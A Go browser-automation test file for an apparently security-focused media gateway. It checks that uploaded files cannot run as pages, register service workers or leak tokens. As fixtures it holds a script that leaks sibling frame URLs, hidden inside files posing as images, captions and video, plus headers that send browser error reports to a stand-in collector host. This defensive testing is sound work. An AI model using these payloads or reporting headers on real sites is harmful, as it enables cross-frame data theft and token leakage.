package integration

import (
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"net/http/httputil"
	"net/url"
	"slices"
	"strings"
	"sync"
	"testing"

	"github.com/chromedp/chromedp"
)

// thief is what an uploader wants to run: it tells the embedding page the addresses of
// the frames beside it.
const thief = `ran = true
for (let i = 0; i !== parent.length; i++) try { parent.postMessage({ stolen: parent[i].location.href }, "*") } catch {}`

// uploads are files in the folder of one video that are pages as well.
var uploads = map[string]struct {
	contentType string // "": none
	status      int
	body        string
}{
	"poster.jpg":       {"text/html", 200, "<!doctype html><script>" + thief + "</script>"},
	"untyped.jpg":      {"", 200, "<!doctype html><script>" + thief + "</script>"},
	"missing.ts":       {"text/html", 404, "<!doctype html><script>" + thief + "</script>"},
	"logo.svg":         {"image/svg+xml", 200, `<svg xmlns="http://www.w3.org/2000/svg"><script>` + thief + `</script></svg>`},
	"en.vtt":           {"text/xml", 200, `<html xmlns="http://www.w3.org/1999/xhtml"><script>` + thief + `</script></html>`},
	"downloads/a.mp4x": {"application/xhtml+xml", 200, `<html xmlns="http://www.w3.org/1999/xhtml"><script>` + thief + `</script></html>`},
}

// hostileOrigin has uploads in the folder of each video, a player page of its own, and
// headers that nobody should see.
func hostileOrigin(w http.ResponseWriter, r *http.Request) {
	_, suffix, _ := strings.Cut(strings.TrimPrefix(r.URL.Path, "/"), "/")
	h := w.Header()
	h.Set("Set-Cookie", "planted=1; Path=/")
	h.Set("Service-Worker-Allowed", "/")
	upload, ok := uploads[suffix]
	switch {
	case ok && upload.contentType == "":
		h["Content-Type"] = nil // or the server guesses
	case ok:
		h.Set("Content-Type", upload.contentType)
	case suffix == "sw.js":
		h.Set("Content-Type", "text/javascript")
		upload.status = http.StatusOK
	default:
		h.Set("Content-Type", "text/html")
		upload.status, upload.body = http.StatusOK, "<!doctype html><script>ran = true</script>"
	}
	w.WriteHeader(upload.status)
	_, _ = io.WriteString(w, upload.body)
}

// The attack: a file of one video is a page. On the gate's origin, it would read the URL
// of another video in the frame beside it, and install a service worker. The same files
// on a host without the gate show that the attack works.
func TestUploadedPages(t *testing.T) {
	t.Parallel()
	w := startWeb(t, http.HandlerFunc(hostileOrigin), config{gate: "trust_origin_iframe\ndownloads nothing/*"})
	bare := "http://bare.media.test:" + portOf(w.origin.server)
	for _, host := range []struct {
		name, a, b string
		guarded    bool
	}{
		{"bare", bare + "/vidA/", bare + "/vidB/", false},
		{"gate", w.media("/" + mint(t, "vidA", nil) + "/"), w.media("/" + mint(t, "vidB", nil) + "/"), true},
	} {
		for name, upload := range uploads {
			t.Run(host.name+" "+name, func(t *testing.T) {
				t.Parallel()
				p := openPage(t, w.site("www.example.test")+"/", `stolen = []; addEventListener("message", e => { if (e.data.stolen) stolen.push(e.data.stolen) })`)
				if host.guarded && upload.contentType == "" {
					evaluate[bool](t, p, fmt.Sprintf("embed('iframe', %q, {}), true", host.a+name))
					eventually(t, "a download instead of a page", func() bool {
						got, _ := w.tap.first("GET", "/"+name)
						return got.response.Get("Content-Type") == "application/octet-stream"
					})
					return
				}
				evaluate[bool](t, p, fmt.Sprintf("embed('iframe', %q, {}).then(() => embed('iframe', %q, {})).then(() => true)", host.b+"iframe", host.a+name))
				read := fmt.Sprintf("embed('iframe', 'about:blank', {}).then(() => stolen.includes(%q))", host.b+"iframe")
				if !host.guarded {
					p.until(t, "the address is stolen", read)
				} else if evaluate[bool](t, p, read) {
					t.Error("the file of one video reads the address of another")
				}
				p.open(t, host.a+name)
				got := evaluate[string](t, p, `String([globalThis.ran === true, origin !== "null"])`)
				if want := map[bool]string{true: "false,false", false: "true,true"}[host.guarded]; got != want {
					t.Errorf("whether the page runs and has the host's origin: %s, want %s", got, want)
				}
			})
		}
		t.Run(host.name+" service worker and cookies", func(t *testing.T) {
			p := openTab(t)
			p.open(t, host.a+"iframe") // trusted, so it runs
			got := evaluate[string](t, p, `navigator.serviceWorker.register("sw.js", { scope: "/" }).then(() => "registered", () => "failed").then(
				worker => String([ran, worker, document.cookie]))`)
			if want := map[bool]string{true: "true,failed,", false: "true,registered,planted=1"}[host.guarded]; got != want {
				t.Errorf("the page runs, worker, cookies: %s, want %s", got, want)
			}
			if asked, ok := w.tap.first("GET", "/sw.js"); host.guarded && (!ok || asked.verdict() != refusedFor("service_worker_not_allowed")) {
				t.Errorf("the script of the worker: %v", asked.verdict())
			}
		})
	}
}

// Media still show on other sites and in tabs of their own, whatever the origin says
// about types and embedding.
func TestSandboxedMediaPlay(t *testing.T) {
	t.Parallel()
	clip := anyVideo()
	w := startWeb(t, http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
		rw.Header().Set("Cross-Origin-Resource-Policy", "same-origin")
		rw.Header().Set("X-Frame-Options", "DENY")
		if strings.HasPrefix(r.URL.Path, "/untyped/") {
			rw.Header()["Content-Type"] = nil
		}
		if strings.HasSuffix(r.URL.Path, ".vtt") {
			rw.Header()["Content-Type"] = nil
			_, _ = io.WriteString(rw, "WEBVTT\n\n00:00.000 --> 00:09.000\nHello\n")
			return
		}
		clip.ServeHTTP(rw, r)
	}), config{app: allowedSites, gate: "downloads nothing/*"})
	const image, film = "/thumbnails/thumbnail.jpg", "/downloads/default.mp4"
	const show = `(image, film, captions) => new Promise(resolve => {
		const img = new Image(), video = document.createElement("video"), track = document.createElement("track")
		const shown = () => { if (img.naturalWidth && video.videoWidth && track.readyState === 2) resolve("shown") }
		for (const element of [img, video, track]) element.onerror = () => resolve(element.tagName + " failed")
		img.onload = video.onloadeddata = track.onload = shown
		Object.assign(track, { kind: "captions", src: captions, default: true })
		Object.assign(video, { crossOrigin: "anonymous", muted: true, src: film })
		img.src = image
		video.append(track)
		document.body.append(img, video)
	})`
	for _, video := range []string{"demo", "untyped", "sites"} {
		t.Run("embedded "+video, func(t *testing.T) {
			p := openPage(t, w.site("www.example.test")+"/")
			at := w.media("/" + mint(t, video, nil))
			if got := evaluate[string](t, p, fmt.Sprintf("(%s)(%q, %q, %q)", show, at+image, at+film, at+"/en.vtt")); got != "shown" {
				t.Error(got)
			}
		})
	}
	for _, tc := range []struct{ name, video, from string }{
		{"any site", "demo", "about:blank"},
		{"a link on an allowed site", "sites", w.site("www.example.test") + "/"},
		{"missing_origin allow", "apps", "about:blank"},
	} {
		t.Run("in a tab, "+tc.name, func(t *testing.T) {
			p := openTab(t)
			at := w.media("/" + mint(t, tc.video, nil))
			// shows goes to a file as a link would, and waits until the page that the browser makes shows it.
			shows := func(file, script string) {
				p.open(t, tc.from)
				evaluate[bool](t, p, fmt.Sprintf("location = %q, true", at+file))
				eventually(t, file+" shows", func() bool {
					shown, err := chromedp.Run(p.ctx, chromedp.Evaluate[bool](script))
					return err == nil && shown // the first tries may be between the pages
				})
			}
			shows(image, `document.querySelector("img")?.naturalWidth > 0`)
			shows(film, `document.querySelector("video")?.readyState >= 2`)
			p.do(t, chromedp.KeyEvent("\t"), chromedp.KeyEvent(" ")) // the key that plays
			eventually(t, "the film plays", func() bool { return evaluate[float64](t, p, `document.querySelector("video").currentTime`) > enough })
		})
	}
}

// The attack: an origin, or the CDN before it, has browsers report what they load. Each
// report would have a URL with its token. A host without the gate shows that the
// browser reports.
func TestOriginsGetNoReports(t *testing.T) {
	t.Parallel()
	var mu sync.Mutex
	var reports []string
	collector := httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		for name, value := range map[string]string{"Origin": "*", "Headers": "content-type", "Methods": "POST"} {
			w.Header().Set("Access-Control-Allow-"+name, value)
		}
		body, _ := io.ReadAll(r.Body)
		mu.Lock()
		defer mu.Unlock()
		reports = append(reports, r.URL.Path+" "+string(body))
	}))
	t.Cleanup(collector.Close)
	to := "https://collector.test:" + portOf(collector)
	o := startOrigin(t, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		for name, value := range map[string]string{
			"Report-To":                           `{"group":"nel","max_age":3600,"endpoints":[{"url":"` + to + `/nel"}]}`,
			"Nel":                                 `{"report_to":"nel","max_age":3600,"success_fraction":1,"failure_fraction":1}`,
			"Reporting-Endpoints":                 `default="` + to + `/default"`,
			"Content-Security-Policy":             "img-src 'none'; report-uri " + to + "/csp",
			"Content-Security-Policy-Report-Only": "style-src 'none'; report-to default",
			"Content-Type":                        "text/html",
		} {
			w.Header().Set(name, value)
		}
		if strings.HasSuffix(r.URL.Path, ".ts") {
			w.WriteHeader(http.StatusNotFound)
		}
		_, _ = io.WriteString(w, `<!doctype html><style>p{}</style><img src="seg2.ts">`)
	}))
	g := start(t, o, config{gate: "player"})
	front := func(target string) string {
		u := must(url.Parse(target))(t)
		server := httptest.NewTLSServer(httputil.NewSingleHostReverseProxy(u))
		t.Cleanup(server.Close)
		return portOf(server)
	}
	compact := mint(t, "demo", nil)
	reported := func(part string) bool {
		mu.Lock()
		defer mu.Unlock()
		return slices.ContainsFunc(reports, func(report string) bool { return strings.Contains(report, part) })
	}
	p := openTab(t)
	for _, at := range []string{"https://guarded.test:" + front(g.url("")) + "/" + compact, "https://bare.test:" + front(o.server.URL) + "/demo"} {
		for _, suffix := range []string{"/page", "/seg2.ts", "/thumbnails/poster.jpg", "/iframe"} {
			p.open(t, at+suffix)
		}
	}
	for _, path := range []string{"/nel ", "/csp ", "/default "} {
		eventually(t, "the browser reports to "+path, func() bool { return reported(path) })
	}
	if reported("guarded.test") || reported(compact) {
		t.Errorf("the collector learns of the gate: %s", reports)
	}
}
